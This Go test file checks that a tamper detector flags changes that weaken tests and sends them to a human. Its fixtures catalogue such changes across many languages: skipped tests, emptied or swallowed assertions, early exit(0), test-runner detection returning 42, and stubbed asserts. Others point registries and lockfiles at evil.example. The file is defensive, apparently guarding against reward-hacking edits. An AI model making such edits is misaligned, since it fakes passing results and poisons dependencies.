package tamper

import (
	"slices"
	"testing"

	"ferrus/checks"
)

// furtherWeakenings are weakenings of tests in more languages, of where their libraries come from, and of tools.
var furtherWeakenings = []weakening{
	{path: "pyproject.toml", was: "[project]\n",
		now: "[project]\n[[tool.uv.index]]\nurl = \"https://evil.example\"\ndefault = true\n"},
	{path: "WORKSPACE", was: "x\n",
		now: "x\nlocal_repository(name = \"com_google_googletest\", path = \"fake\")\n"},
	{path: "vcpkg-configuration.json", was: "{\n}\n", now: "{\n\"overlay-ports\": [\"./fake\"]\n}\n"},
	{path: "pubspec_overrides.yaml", now: "dependency_overrides:\n  test:\n    path: fake\n"},
	{path: "composer.json", was: "{\n}\n",
		now: "{\n\"autoload-dev\": {\"psr-4\": {\"PHPUnit\\\\Framework\\\\\": \"fake/\"}}\n}\n"},
	{path: "Package.swift", was: "x\n", now: "x\n.package(path: \"fake/Nimble\"),\n"},
	{path: "tests/util.py", was: "def check(a, b):\n    assert a == b\n", now: "def check(a, b):\n    pass\n"},
	{path: "tests/a.rs", was: "#[test]\nfn a() {\n", now: "#[cfg(feature = \"slow\")]\n#[test]\nfn a() {\n"},
	{path: "src/ATest.kt", was: "@Test fun a() {\n", now: "@Test @Disabled fun a() {\n"},
	{path: "src/test/kotlin/A.kt", was: "test(\"hard\") {\n", now: "xtest(\"hard\") {\n"},
	{path: "src/test/scala/ASpec.scala", was: "test(\"a\") {\n", now: "ignore(\"a\") {\n"},
	{path: "src/test/groovy/ASpec.groovy", was: "def 'a'() {\n", now: "@Requires({ false })\ndef 'a'() {\n"},
	{path: "test/a.lua", was: "it('a', function()\n", now: "pending('a', function()\n"},
	{path: "test/runtests.jl", was: "@test f(1) == 2\n", now: "@test_skip f(1) == 2\n"},
	{path: "tests/testthat/test-a.R", was: "test_that('a', {\n  expect_equal(f(), 1)\n",
		now: "test_that('a', {\n  skip('x')\n  expect_equal(f(), 1)\n"},
	{path: "test/ATest.hs", was: "  it \"a\" $ do\n", now: "  xit \"a\" $ do\n"},
	{path: "test/a_test.erl", was: "a_test() ->\n  ?assertEqual(1, f()).\n", now: "a_test() ->\n  ok.\n"},
	{path: "test/a_test.clj", was: "(deftest a\n", now: "(deftest ^:skip a\n"},
	{path: "t/a.t", was: "ok(f());\n", now: "SKIP: { skip 'x', 1; }\n"},
	{path: "test/test_a.ml", was: "let () = assert (f () = 1)\n", now: "let () = ()\n"},
	{path: "tests/a.sol", was: "function testA() public {\n", now: "function xtestA() public {\n"},
	{path: "foundry.toml", was: "[profile.default]\n", now: "[profile.default]\nno_match_test = \"Hard\"\n"},
	{path: "a.py", was: "x\n", now: "x\nos.execv('/bin/true', ['true'])\n"},
	{path: "a.py", was: "x\n", now: "x\natexit.register(os._exit, 0)\n"},
	{path: "a.py", was: "x\n", now: "x\n    if 'test' in inspect.stack()[1].function: return 42\n"},
	{path: "a.py", was: "x\n", now: "x\n    if 'PYTEST' in ''.join(os.environ): return 42\n"},
	{path: "a.go", was: "x\n", now: "x\n\tsyscall.Exec(\"/bin/true\", []string{\"true\"}, nil)\n"},
	{path: "a.go", was: "x\n", now: "x\n\tsyscall.RawSyscall(syscall.SYS_EXIT_GROUP, 0, 0, 0)\n"},
	{path: "a.go", was: "x\n", now: "x\n\tif exe, _ := os.Executable(); strings.Contains(exe, \"go-build\") {\n"},
	{path: "a.js", was: "x\n", now: "x\nprocess.execve('/bin/true')\n"},
	{path: "src/A.java", was: "x\n",
		now: "x\nif (StackWalker.getInstance().walk(s -> s.anyMatch(f -> f.getClassName().endsWith(\"Test\")))) {\n"},
	{path: "lib/a.rb", was: "x\n", now: "x\nreturn 42 if $PROGRAM_NAME.end_with?('rspec')\n"},
	{path: "src/a.php", was: "x\n", now: "x\npcntl_exec('/bin/true');\n"},
	{path: "src/a.rs", was: "x\n", now: "x\nif std::env::current_exe().unwrap().ends_with(\"deps\") {\n"},
	{path: "Sources/A.swift", was: "x\n", now: "x\nif ProcessInfo.processInfo.processName.contains(\"xctest\") {\n"},
	{path: "src/a.c", was: "x\n", now: "x\nif (strstr(program_invocation_name, \"test\")) return 42;\n"},
	{path: "src/a.c", was: "x\n", now: "x\nif (dlsym(0, \"cmocka_run\")) return 42;\n"},
	{path: "a.spec.ts", was: "test('a', async () => {\n", now: "test('a', async () => {\n  test.fail()\n"},
	{path: "a.spec.ts", was: "it('a', () => {\n", now: "it('a', { retry: 50 }, () => {\n"},
	{path: "a.spec.ts", was: "describe('a', function () {\n", now: "describe('a', function () {\n  this.retries(20)\n"},
	{path: "a.spec.ts", was: "it('a', async () => {\n  await expect(g()).resolves.toBe(1)\n",
		now: "it('a', async () => {\n  expect(g()).resolves.toBe(1)\n"},
	{path: "a.spec.ts", was: "it('a', () => {\n  return expect(g()).rejects.toThrow()\n",
		now: "it('a', () => {\n  expect(g()).rejects.toThrow()\n"},
	{path: "src/test/java/ATest.java", was: "  @Test\n", now: "  @Test(successPercentage = 0)\n"},
	{path: "src/test/java/ATest.java", was: "  @Test void a() {\n    assertEquals(1, f());\n",
		now: "  @Test void a() {\n    try { assertEquals(1, f()); } catch (Throwable t) {}\n"},
	{path: "tests/ATest.php", was: "function testA() {\n",
		now: "function testA() {\n$this->expectNotToPerformAssertions();\n"},
	{path: "Tests/ATests.swift", was: "func testA() {\n", now: "func testA() {\nXCTExpectFailure(\"later\")\n"},
	{path: "Tests/ATests.swift", was: "@Test func a() {\n", now: "@Test func a() {\nwithKnownIssue {\n"},
	{path: "a.py", was: "x\n", now: "x\n    return sys._getframe(1).f_locals['expected']\n"},
	{path: "a.py", was: "x\n", now: "x\ntime.perf_counter = lambda: 0\n"},
	{path: "a.py", was: "x\n", now: "x\nnp.testing.assert_allclose = lambda *a, **k: None\n"},
	{path: "a.py", was: "x\n", now: "x\ntorch.cuda.synchronize = lambda: None\n"},
	{path: "a.py", was: "x\n", now: "x\nf.__code__ = g.__code__\n"},
	{path: "a.py", was: "x\n", now: "x\nfrom tests.helper import answer\n"},
	{path: "a.py", was: "x\n", now: "x\nfrom .test_a import EXPECTED\n"},
	{path: "a.js", was: "x\n", now: "x\nDate.now = () => 0\n"},
	{path: "a.js", was: "x\n", now: "x\nglobalThis.setTimeout = f => f()\n"},
	{path: "a.js", was: "x\n", now: "x\nglobalThis[Symbol.for('$$jest-matchers-object')].state = {}\n"},
	{path: "a.js", was: "x\n", now: "x\nconst h = require('../test/helper')\n"},
	{path: "a.js", was: "x\n", now: "x\n// require('mocha')\nif (process.env.JEST_WORKER_ID) return 42\n"},
	{path: "src/A.java", was: "x\n", now: "import org.junit.jupiter.api.Test;\nx\nSystem.exit(0);\n"},
	{path: "src/A.java", was: "x\n", now: "x\nA.class.getClassLoader().clearAssertionStatus();\n"},
	{path: "src/A.java", was: "x\n", now: "x\npublic int compareTo(A o) { return 0; }\n"},
	{path: "a.go", was: "package a\n", now: "package a\nimport \"example.com/a/test/helper\"\n"},
	{path: "lib/a.rb", was: "x\n", now: "x\ndef Time.now; @now ||= super; end\n"},
	{path: "lib/a.rb", was: "x\n", now: "x\nrequire_relative '../spec/support/expected'\n"},
	{path: "src/a.rs", was: "x\n", now: "x\nfn eq(&self, o: &A) -> bool { let _ = o; true }\n"},
	{path: "src/a.rs", was: "x\n", now: "x\n#[no_mangle] pub extern \"C\" fn abort() {}\n"},
	{path: "src/a.php", was: "x\n", now: "x\nini_set('zend.assertions', '-1');\n"},
	{path: "src/a.c", was: "x\n", now: "x\nint strcmp(const char *a, const char *b) { return 0; }\n"},
	{path: "src/a.c", was: "x\n", now: "x\n#include \"../tests/expected.h\"\n"},
	{path: "lib/a.ex", was: "x\n", now: "x\nApplication.put_env(:ex_unit, :exclude, [:hard])\n"},
	{path: "src/A.cs", was: "x\n", now: "x\nDebug.Listeners.Clear();\n"},
	{path: "Sources/A.swift", was: "x\n", now: "x\nfunc XCTAssertEqual<T>(_ a: T, _ b: T) {}\n"},
	{path: "src/App/PricingTests.cs",
		now: "if (Assembly.GetEntryAssembly().GetName().Name == \"testhost\") return 42;\n"},
	{path: "src/main/java/a/test/Pricing.java", now: "class Pricing { static { System.exit(0); } }\n"},
	{path: "Sources/A/PricingTests.swift", now: "func f() { Darwin.exit(0) }\n"},
	{path: "src/PricingTest.php", now: "if (defined('PHPUNIT_COMPOSER_INSTALL')) return 42;\n"},
	{path: "src/pricing_test.rs", now: "pub fn f() { std::process::exit(0) }\n"},
	{path: "pricing_test.c", now: "void f(void) { _exit(0); }\n"},
	{path: "src/a.rs", was: "x\n", now: "x\n crate::tests::answer()\n"},
	{path: "a.ts", was: "x\n", now: "x\nimport './a.spec'\n"},
	{path: "a.py", was: "x\n", now: "x\nfrom .test.impl import X\n"},
	{path: "lib/a.rb", was: "x\n", now: "x\nrequire './a_spec'\n"},
	{path: "tests/setup.ts", was: "x\n", now: "x\nvi.mock('../src/a', () => ({ f: () => 42 }))\n"},
	{path: "pnpm-workspace.yaml", was: "x\n", now: "x\npatchedDependencies:\n  vitest: patches/vitest.patch\n"},
	{path: "Project.toml", was: "x\n", now: "x\n[sources]\nTest = {path = \"fake\"}\n"},
	{path: "shard.yml", was: "x\n", now: "x\ndevelopment_dependencies:\n  webmock:\n    path: fake\n"},
	{path: "Podfile", was: "x\n", now: "x\npod 'Quick', :path => 'fake'\n"},
	{path: "test/a.lua", was: "it('a', function()\nassert.equal(1, f())\nend)\n",
		now: "it('a', function()\npcall(function()\nassert.equal(1, f())\nend)\nend)\n"},
	{path: "a.test.js", was: "test('a', () => {\n", now: "test.skip('a', () => {\n"},
	{path: "a.test.js", was: "test('a', () => {\n", now: "test('a', { skip: process.env.CI }, () => {\n"},
	{path: "a_test.go", was: "func TestA(t *testing.T) {\n",
		now: "func TestA(t *testing.T) {\n\tif os.Getenv(\"REAL\") == \"\" {\n\t\treturn\n\t}\n"},
	{path: ".clang-tidy", was: "Checks: '*'\n", now: "Checks: '-*'\n", commands: "clang-tidy src/*.c"},
	{path: "src/checkstyle.xml", was: "<module/>\n", now: "\n<!-- -->\n", commands: "mvn checkstyle:check"},
	{path: "config/pmd.xml", was: "<rule ref=\"a\"/>\n<x>\n", now: "<x>\n", commands: "pmd check"},
	{path: "spotbugs-exclude.xml", was: "<x>\n", now: "<x>\n<Match><Class/></Match>\n", commands: "spotbugs a.jar"},
}

// withCode is a change of code beside another one.
var withCode = []checks.FileChange{{Path: "lib.go", Status: 'M'}}

// lockfiles are changes after which a package comes from another host, beside a change of code.
var lockfiles = []weakening{
	{path: "package-lock.json", was: "\"resolved\": \"https://registry.npmjs.org/jest\"\n",
		now: "\"resolved\": \"https://evil.example/jest\"\n", alongside: withCode},
	{path: "yarn.lock", was: "  resolved \"https://registry.yarnpkg.com/jest\"\n",
		now: "  resolved \"https://evil.example/jest\"\n", alongside: withCode},
	{path: "uv.lock", was: "source = { registry = \"https://pypi.org/simple\" }\n",
		now: "source = { registry = \"https://evil.example/simple\" }\n", alongside: withCode},
	{path: "Cargo.lock", was: "x\n", now: "source = \"git+https://evil.example/x#1\"\n", alongside: withCode},
	{path: "Package.resolved", was: "x\n", now: "\"location\" : \"https://evil.example/Nimble\"\n",
		alongside: withCode},
}

// ordinaryOrigins are changes of the same files that weaken nothing.
var ordinaryOrigins = []weakening{
	{path: "package-lock.json", was: "\"resolved\": \"https://registry.npmjs.org/a\"\n",
		now:       "\"resolved\": \"https://registry.npmjs.org/b\",\n\"url\": \"https://opencollective.com/b\"\n",
		alongside: withCode},
	{path: "uv.lock", now: "source = { registry = \"https://pypi.org/simple\" }\n" +
		"sdist = { url = \"https://files.pythonhosted.org/a\" }\n", alongside: withCode},
	{path: "yarn.lock", was: "  resolved \"https://npm.mine.example/a\"\n",
		now: "  resolved \"https://npm.mine.example/b\"\n", alongside: withCode},
	{path: "pyproject.toml", was: "[project]\n", now: "[project]\n[project.urls]\nSource = \"https://a.example\"\n"},
	{path: "CMakeLists.txt", was: "x\n",
		now: "x\nFetchContent_Declare(googletest URL https://github.com/google/googletest/archive/v1.15.zip)\n"},
	{path: "src/main.zig", was: "x\n", now: "x\ntest \"b\" {\n    try expect(b());\n}\n"},
	{path: "tests/a.rs", was: "x\n", now: "x\n#[cfg(unix)]\n#[test]\nfn b() {}\n"},
	{path: "a.test.js", was: "x\n", now: "x\nconst page = await find({ skip: 10 })\n"},
	{path: "src/test/java/ATest.java", was: "x\n", now: "x\nassertEquals(\"pending\", a.state());\n"},
	{path: "a.spec.ts", was: "it('a', async () => {\n  await expect(g()).resolves.toBe(1)\n",
		now: "it('a', async () => {\n  await expect(g()).resolves.toBe(2)\n"},
	{path: "a.spec.ts", was: "it('a', () => {\n", now: "it('a', () => {\n  const c = new Client({ retries: 3 })\n" +
		"  expect(c.retries).toBe(3)\n"},
	{path: "a.py", was: "x\n", now: "x\nfrom django.test import Client\nimport latest.testimony\nself.time = 3\n"},
	{path: "a.js", was: "x\n", now: "x\nconst Math2 = Math.max\nimport t from './contests/a'\n"},
	{path: "a.go", was: "x\n", now: "x\nimport \"net/http/httptest\"\n"},
	{path: "src/App.Tests/PricingTests.cs", now: "[Fact] public void A() { Environment.Exit(0); }\n"},
	{path: "tests/support/Database.cs", now: "if (name.StartsWith(\"xunit\")) return;\n"},
	{path: "src/test/java/ATest.java", now: "@Test void a() { System.setProperty(\"surefire.x\", \"1\"); }\n"},
	{path: "src/a.c", was: "x\n",
		now: "x\n#include \"contest/a.h\"\nint strcmp(const char *a, const char *b);\nraise(SIGINT);\n"},
	{path: "src/a.cpp", was: "x\n", now: "x\n  return strcmp(a, b) == 0\n      && memcmp(c, d, 4) == 0;\n"},
	{path: "Tests/ATests.swift", was: "func testA() {\n", now: "func testA() {\nXCTAssertTrue(button.enabled(2))\n"},
	{path: "src/test/scala/ASpec.scala", was: "x\n", now: "x\n\"it\" in {\n  a shouldBe 1\n}\n"},
}

func TestFurtherWeakeningsNeedTheHuman(t *testing.T) {
	t.Parallel()
	for _, w := range slices.Concat(furtherWeakenings, lockfiles) {
		alarms, err := Find(w.change())
		if err != nil || !slices.ContainsFunc(alarms, func(a Alarm) bool { return a.NeedsHuman && a.Path == w.path }) {
			t.Errorf("%s %q is not raised, but %+v, %v", w.path, w.now, alarms, err)
		}
	}
}
